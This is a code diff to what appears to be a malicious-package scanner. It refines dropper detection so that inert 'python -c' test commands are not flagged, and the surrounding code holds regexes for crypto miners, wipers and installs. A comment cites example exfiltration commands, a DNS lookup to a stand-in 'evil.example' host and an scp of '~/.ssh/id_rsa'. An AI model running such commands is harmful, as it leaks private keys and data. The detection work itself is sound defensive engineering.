@@ -31,6 +31,7 @@ from airlock.imports.packages import (
     poweroff,
     remotes,
     signedaway,
+    sinkcall,
     staged,
 )
 from airlock.imports.packages.flowtypes import MAX_STEPS, Event, Trace, When
@@ -100,6 +101,7 @@ RUNS_HANDED = LazyPattern(
     r"-c\b.{0,400}?\b(?:exec|eval|compile)\s*\(.{0,200}?\bsys\s*\.\s*(?:argv|stdin)",
     re.DOTALL,
 )
+INTERPRETER_FLAG = LazyPattern(r"python\S* -c", re.IGNORECASE)
 PIP_INSTALL = LazyPattern(r"\bpip[\d.]*\b.{0,40}\binstall\b(?!\s+(-e\s+)?\.(\s|$))", re.DOTALL)
 MINER = LazyPattern(r"stratum\+(?:tcp|ssl)://|\bxmrig\b|--donate-level|\bcpuminer\b|nicehash", re.I)
 WIPER = LazyPattern(
@@ -219,6 +221,16 @@ PUBLIC_IP_URL = LazyPattern(
 )
 
 
+def _dropper_text(event: Event) -> str:
+    """The command's text as :data:`DROPPER` reads it: without the interpreter's ``-c`` flag
+    when the code it runs was read as Python and does nothing the pass judges
+    (:data:`sinkcall.INERT_CODE`, ADR 0152: a test's ``python3 -c 'print(os.stat(1))'`` is
+    no download). The code's words stay: a URL or ``| sh`` in it is still a dropper word."""
+    if sinkcall.INERT_CODE not in event.labels or RUNS_HANDED.search(event.text):
+        return event.text
+    return INTERPRETER_FLAG.compiled.sub(" ", event.text, count=1)
+
+
 def _process(event: Event, eager: bool) -> tuple[str, Severity]:  # noqa: PLR0911, PLR0912 -- a ladder of chains
     # A download's address handed to curl when called is a download, judged below as
     # ``requests.get`` is (ADR 0144); on install or import it stays the dropper it was.
@@ -261,7 +273,7 @@ def _process(event: Event, eager: bool) -> tuple[str, Severity]:  # noqa: PLR091
         # (``nslookup user.evil.example``, ``scp ~/.ssh/id_rsa h:``): exfiltration through a
         # process instead of a socket (ADR 0076).
         return "exfiltration", Severity.CRITICAL
-    if DROPPER.search(event.text):
+    if DROPPER.search(_dropper_text(event)):
         # A URL or a shell word in a command is a download-and-run only when it runs early;
         # inside a function it is what installers and VCS helpers do (git clone https://…).
         return ("dropper", Severity.CRITICAL) if eager else ("process-call", Severity.MEDIUM)
